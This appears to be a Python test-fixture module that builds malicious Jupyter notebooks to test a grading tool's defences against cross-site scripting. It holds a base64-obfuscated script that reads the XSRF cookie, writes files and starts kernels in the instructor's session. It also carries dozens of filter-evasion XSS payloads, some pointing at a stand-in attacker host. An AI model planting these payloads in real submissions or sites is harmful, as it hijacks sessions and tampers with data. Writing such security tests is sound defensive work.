"""Markup a submission could carry to run script in the instructor's browser (for test_markup.py
and test_formgrader.py).

RUN is the script every payload runs when it gets the chance: it raises a marker (window.__pwned),
logs PWNED, opens a dialog, and, as the instructor logged in to the Jupyter server, writes a file
into the course (PUT /api/contents/course/PWNED-<n>.txt) and starts a kernel (POST /api/kernels),
using the server's XSRF cookie, as the red team's did. The tests check all of these from outside.
"""
import base64
import nbformat

RUN = """(function () {
  window.__pwned = (window.__pwned || 0) + 1;
  console.log('PWNED');
  var m = document.cookie.match(/_xsrf=([^;]+)/), x = m ? decodeURIComponent(m[1]) : '';
  var h = {'X-XSRFToken': x, 'Content-Type': 'application/json'};
  try {
    fetch('/api/contents/course/PWNED-' + window.__pwned + '.txt', {method: 'PUT', headers: h, credentials: 'include',
          body: JSON.stringify({type: 'file', format: 'text', content: 'ran in the instructor session'})});
    fetch('/api/kernels', {method: 'POST', headers: h, credentials: 'include', body: '{}'});
  } catch (e) {}
  try { alert('PWNED'); } catch (e) {}
})();"""
B64 = base64.b64encode(RUN.encode()).decode()
CALL = f"eval(atob('{B64}'))"
JS_URL = f"javascript:{CALL}"
ENTITY_JS_URL = "&#106;&#x61;v&#x61;script&colon;" + CALL  # "javascript:", spelled with entities
TAB_JS_URL = "jav&#x09;ascript:" + CALL

# a 1x1 PNG
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")

# The OWASP XSS filter evasion classics (cheat sheet), adapted to call RUN, plus what notebooks add.
HTML_PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript;base64,{B64}></SCRIPT>",
    f"<img src=x onerror=\"{CALL}\">",
    f"<IMG SRC=\"{JS_URL}\">",
    f"<IMG SRC={JS_URL}>",
    f"<IMG SRC=`{JS_URL}`>",
    f"<IMG \"\"\"><SCRIPT>{RUN}</SCRIPT>\">",
    f"<IMG SRC=\"{ENTITY_JS_URL}\">",
    f"<IMG SRC=\"{TAB_JS_URL}\">",
    f"<IMG SRC=\"jav&#x0A;ascript:{CALL}\">",
    f"<IMG SRC=\" &#14;  {JS_URL}\">",
    f"<IMG/SRC=x/ONERROR=\"{CALL}\">",
    f"<<SCRIPT>{RUN}//<</SCRIPT>",
    f"<iframe src=\"{JS_URL}\"></iframe>",
    f"<iframe srcdoc=\"&lt;script&gt;parent.{CALL}&lt;/script&gt;\"></iframe>",
    f"<svg onload=\"{CALL}\"></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=\"{JS_URL}\"><text x=20 y=20>click</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{CALL}\">",
    f"<math href=\"{JS_URL}\">click</math>",
    f"<body onload=\"{CALL}\">",
    f"<details open ontoggle=\"{CALL}\">x</details>",
    f"<input autofocus onfocus=\"{CALL}\">",
    f"<a href=\"{JS_URL}\">link</a>",
    f"<a href=\"{ENTITY_JS_URL}\">entity link</a>",
    f"<a href=\"vbscript:msgbox(1)\">vb</a>",
    f"<a href=\"data:text/html;base64,{base64.b64encode(b'<script>alert(1)</script>').decode()}\">data</a>",
    f"<form action=\"{JS_URL}\"><button>go</button></form>",
    f"<button formaction=\"{JS_URL}\">go</button>",
    f"<object data=\"{JS_URL}\"></object>",
    f"<embed src=\"data:image/svg+xml;base64,{base64.b64encode(('<svg onload=' + CALL + '/>').encode()).decode()}\">",
    "<base href=\"http://attacker.invalid/\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url={JS_URL}\">",
    "<link rel=\"stylesheet\" href=\"http://attacker.invalid/x.css\">",
    "<style>@import 'http://attacker.invalid/x.css'; body { background: url(http://attacker.invalid/) }</style>",
    f"<div style=\"background-image: url({JS_URL}); width: expression({CALL})\">styled</div>",
    f"<table background=\"{JS_URL}\"><tr><td>t</td></tr></table>",
    f"<video><source onerror=\"{CALL}\"></video>",
    f"<marquee onstart=\"{CALL}\">m</marquee>",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\"></noscript>",
    f"<template><img src=x onerror=\"{CALL}\"></template>",
    f"<textarea><img src=x onerror=\"{CALL}\"></textarea>",
    f"<xmp><img src=x onerror=\"{CALL}\"></xmp>",
    f"<!--<img src=x onerror=\"{CALL}\">-->",
    f"<div id=\"submission_id\" class=\"score full-credit\" onclick=\"{CALL}\">clobber</div>",
]

MARKDOWN_PAYLOADS = [
    f"<img src=x onerror=\"{CALL}\">",
    f"Inline <script>{RUN}</script> script",
    f"[a javascript: link]({JS_URL})",
    f"[an entity-obfuscated link]({ENTITY_JS_URL})",
    f"[a tab-broken link]({TAB_JS_URL})",
    f"[a spaced link](  JaVaScRiPt:{CALL})",
    f"![an image](javascript:{CALL})",
    f"<a href=\"{ENTITY_JS_URL}\">raw entity link</a>",
    f"```mermaid\n<img src=x onerror=\"{CALL}\">\n```",
    f"Text\n\n<div>\n\n<svg onload=\"{CALL}\"></svg>\n\n</div>",
    f"[ref][1]\n\n[1]: {JS_URL}",
]


def _svg_attachment():
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"><script>{RUN}</script></svg>'
    return {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}


OUTPUT_CODE = f'''from IPython.display import display, HTML, Javascript, SVG, Markdown, Latex
RUN = {RUN!r}
CALL = {CALL!r}
display(HTML("<script>" + RUN + "</script><iframe src='javascript:parent." + CALL + "'></iframe>"
             "<img src=x onerror=\\"" + CALL + "\\"><b>html output</b>"))
display(Javascript(RUN))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + CALL + '"><script>' + RUN + '</script></svg>'))
display(Markdown("<img src=x onerror=\\"" + CALL + "\\"> markdown output"))
display(Latex("$x$</div><img src=x onerror=\\"" + CALL + "\\">"))
display({{"image/png": {PNG!r}, "text/plain": "png"}}, raw=True,
        metadata={{"image/png": {{"width": "1 onerror=" + CALL, "height": 1}}}})
display({{"image/png": "x\\" onerror=\\"" + CALL, "text/plain": "bad png"}}, raw=True)
display({{"text/html": "<b>isolated</b><script>" + RUN + "</script>"}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
         "text/plain": "widget"}}, raw=True)
display({{"text/html": {HTML_PAYLOADS!r}[0]}}, raw=True)
for payload in {HTML_PAYLOADS!r}:
    display(HTML(payload))
'''


def attacker_notebook(honest):
    """`honest` (a notebook node) with every payload added: Markdown cells, a raw cell, an
    attachment, and a code cell whose outputs carry the rest (outputs come from the kernel: what a
    submission brings is cleared)."""
    nb = nbformat.reads(nbformat.writes(honest), as_version=4)
    cells = [nbformat.v4.new_markdown_cell(source) for source in MARKDOWN_PAYLOADS]
    with_attachment = nbformat.v4.new_markdown_cell("![evil](attachment:evil.svg)")
    with_attachment["attachments"] = _svg_attachment()
    cells.append(with_attachment)
    cells.append(nbformat.v4.new_raw_cell("<script>" + RUN + "</script>" + "".join(HTML_PAYLOADS[:5])))
    cells.append(nbformat.v4.new_markdown_cell("\n\n".join(HTML_PAYLOADS)))
    cells.append(nbformat.v4.new_code_cell(OUTPUT_CODE))
    nb.cells[1:1] = cells  # early in the notebook: before any test could stop it
    return nb
